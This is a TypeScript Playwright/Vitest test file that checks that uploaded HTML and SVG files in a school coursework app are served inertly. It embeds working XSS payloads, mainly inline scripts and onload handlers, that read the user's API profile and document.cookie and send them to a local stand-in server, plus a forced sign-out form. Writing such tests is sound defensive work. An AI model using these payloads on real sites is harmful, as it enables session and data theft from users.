import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { openBrowser } from "../support/browser.ts";
import { Reading } from "../support/reading.ts";
import type { School } from "../support/school.ts";
import { openSchoolWithPages, signedInPage } from "../support/seen-by.ts";
import { zipWith } from "../support/zip.ts";

vi.setConfig({ testTimeout: 90_000, hookTimeout: 90_000 });

/** Everything a file could try: to reach the API as its reader, to read the page, to open windows, to load from elsewhere. */
const script = (elsewhere: string) => `
  document.title = "executed"; try { top.document.title = "executed"; } catch {}
  fetch("/api/v1/me?hostile", { credentials: "include" }).then((r) => r.text())
    .then((t) => fetch("${elsewhere}/hostile-stolen?" + encodeURIComponent(t), { mode: "no-cors" }));
  fetch("${elsewhere}/hostile-fetch", { mode: "no-cors" });
  try { window.open("/?hostile-window"); } catch {}
  try { parent.location = "${elsewhere}/hostile-parent"; } catch {}
  try { localStorage.setItem("hostile", "1"); } catch {}
  new Image().src = "${elsewhere}/hostile-cookie?" + document.cookie;`;

const page = (elsewhere: string) => `<!doctype html><html><head><title>A page</title>
  <meta http-equiv="refresh" content="0;url=${elsewhere}/hostile-refresh">
  <link rel="stylesheet" href="${elsewhere}/hostile-style"><base target="_top"></head>
  <body onload="${script(elsewhere).replaceAll('"', "&quot;")}"><script>${script(elsewhere)}</script>
  <img src="/api/v1/me?hostile-image"><img src="${elsewhere}/hostile-image">
  <iframe src="/api/v1/me?hostile-frame"></iframe>
  <form action="/api/auth/sign-out?hostile" method="post"></form><script>document.forms[0].submit()</script></body></html>`;

const drawing = (elsewhere: string) => `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${script(
  elsewhere,
)
  .replaceAll("&", "&amp;")
  .replaceAll('"', "&quot;")}">
  <title>A drawing</title><style>@import url("${elsewhere}/hostile-style");</style>
  <script><![CDATA[${script(elsewhere)}]]></script>
  <image href="/api/v1/me?hostile-image" width="1" height="1"/>
  <image xlink:href="${elsewhere}/hostile-image" width="1" height="1"/>
  <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="/api/v1/me?hostile-frame"/></foreignObject>
  <use href="${elsewhere}/hostile-use#x"/><rect width="40" height="40" fill="green"/></svg>`;

let browser: Browser;
let school: School;
let elsewhere: { readonly url: string; readonly asked: string[]; readonly server: Server };
let reader: Page;
let context: BrowserContext;
/** What a hostile file had answered by our server. */
const answered: string[] = [];
const links = new Map<string, { show: string; save: string }>();

beforeAll(async () => {
  browser = await openBrowser();
  elsewhere = await openElsewhere();
  school = await openSchoolWithPages({ notes: "file" });
  const html = Buffer.from(page(elsewhere.url));
  const svg = Buffer.from(drawing(elsewhere.url));
  const assessor = await school.member("Ada", ["assessor"]);
  for (const [name, bytes] of [
    ["page.html", html],
    ["drawing.svg", svg],
  ] as const) {
    const student = await school.member(name, ["student"]);
    await school.enrol(student);
    const reading = await Reading.begin(school, student, assessor);
    const alone = await reading.place("notes", name, bytes);
    const archive = await reading.place(
      "app",
      "work.zip",
      zipWith({ [`in/${name}`]: bytes }, () => true),
    );
    await reading.handIn();
    await reading.attempt.assign(await school.member("Tess", ["team"]));
    links.set(`${name} alone`, await reading.shown(alone));
    links.set(`${name} in a ZIP`, await reading.shown(archive, `in/${name}`));
  }
  reader = await signedInPage(browser, school, assessor);
  context = reader.context();
  context.on("response", (response) => {
    if (response.url().startsWith(school.url) && response.url().includes("hostile"))
      answered.push(response.url());
  });
});
afterAll(async () => {
  await browser.close();
  await school[Symbol.asyncDispose]();
  elsewhere.server.close();
});

/** A server that is not ours, and hears who comes. */
async function openElsewhere() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.setHeader("Content-Type", "text/html");
    response.end(request.url === "/control" ? page(`http://${request.headers.host}`) : "");
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };
}

/** What was reached since the last time, here and elsewhere. */
function reached(): string[] {
  return [...answered.splice(0), ...elsewhere.asked.splice(0)].filter((url) => url.includes("hostile"));
}

/** When this has answered, what a page that has loaded asked for at once has been answered, too. No script of the
 * page's may be needed for it: where scripts are off, what waits for one waits for ever. */
async function settle(on: Page): Promise<void> {
  await on.evaluate("document.readyState");
  await (await fetch(`${elsewhere.url}/fence`)).text();
  await on.evaluate("document.readyState");
}

test("what these files try does succeed where nothing stops it", async () => {
  const visit = await context.newPage();
  await visit.goto(`${elsewhere.url}/control`);
  await expect.poll(() => elsewhere.asked, { timeout: 20_000 }).toContain("/hostile-fetch");
  await visit.close();
  for (const opened of context.pages()) if (opened !== reader) await opened.close();
  reached();
});

describe.each(["page.html alone", "page.html in a ZIP", "drawing.svg alone", "drawing.svg in a ZIP"])(
  "%s",
  (file) => {
    const address = (which: "show" | "save") => new URL(links.get(file)?.[which] ?? "", school.url).href;

    test("opened by its address, does nothing", async () => {
      const visit = await context.newPage();
      const response = await visit.goto(address("show"));
      expect(response?.status()).toBe(200);
      await settle(visit);
      expect(reached()).toEqual([]);
      expect(await visit.title()).not.toBe("executed");
      expect(await visit.evaluate("globalThis.origin")).toBe("null");
      expect(context.pages().length).toBe(2);
      await visit.close();
    });

    test("as a picture in our page, does nothing; a drawing is drawn", async () => {
      const width = await reader.evaluate(`(async () => {
      const image = new Image();
      image.src = ${JSON.stringify(address("show"))};
      document.body.append(image);
      await image.decode().catch(() => {});
      image.remove();
      return image.naturalWidth;
    })()`);
      await settle(reader);
      expect(reached()).toEqual([]);
      expect(await reader.title()).not.toBe("executed");
      expect(width).toBe(file.startsWith("drawing") ? 40 : 0);
    });

    test.each(["iframe", "embed", "object"])("in our page by <%s>, is not let in", async (element) => {
      await reader.evaluate(`new Promise((done) => {
      const frame = document.createElement("${element}");
      frame.id = "hostile-holder";
      frame.onload = frame.onerror = done;
      // Our own page lets some elements load nothing at all.
      document.addEventListener("securitypolicyviolation", done, { once: true });
      frame.setAttribute("${element === "object" ? "data" : "src"}", ${JSON.stringify(address("show"))});
      document.body.append(frame);
    })`);
      await settle(reader);
      const inside = await Promise.all(
        reader.frames().map((frame) => (frame === reader.mainFrame() ? "" : frame.content().catch(() => ""))),
      );
      expect(inside.join()).not.toContain("hostile");
      await reader.evaluate('document.getElementById("hostile-holder").remove()');
      expect(reached()).toEqual([]);
      expect(await reader.title()).not.toBe("executed");
      expect(await reader.evaluate('localStorage.getItem("hostile")')).toBeNull();
    });

    test("as a script or a style sheet of our page, is not taken", async () => {
      const taken = await reader.evaluate(`(async () => {
      const load = (element) => new Promise((done) => {
        element.onload = () => done("loaded");
        element.onerror = () => done("refused");
        document.head.append(element);
      });
      const src = ${JSON.stringify(address("show"))};
      const asScript = await load(Object.assign(document.createElement("script"), { src }));
      const asStyle = await load(Object.assign(document.createElement("link"), { rel: "stylesheet", href: src }));
      return [asScript, asStyle];
    })()`);
      expect(taken).toEqual(["refused", "refused"]);
      expect(reached()).toEqual([]);
    });

    test("saved, is a file on the reader's disk and nothing in the browser", async () => {
      const visit = await context.newPage();
      const downloading = visit.waitForEvent("download");
      await visit.goto(address("save")).catch(() => {});
      expect((await downloading).suggestedFilename()).toBe(file.split(" ")[0]);
      expect(reached()).toEqual([]);
      await visit.close();
    });
  },
);

test("the reader is still signed in", async () => {
  const status = await reader.evaluate('fetch("/api/v1/me").then(({ status }) => status)');
  expect(status).toBe(200);
});
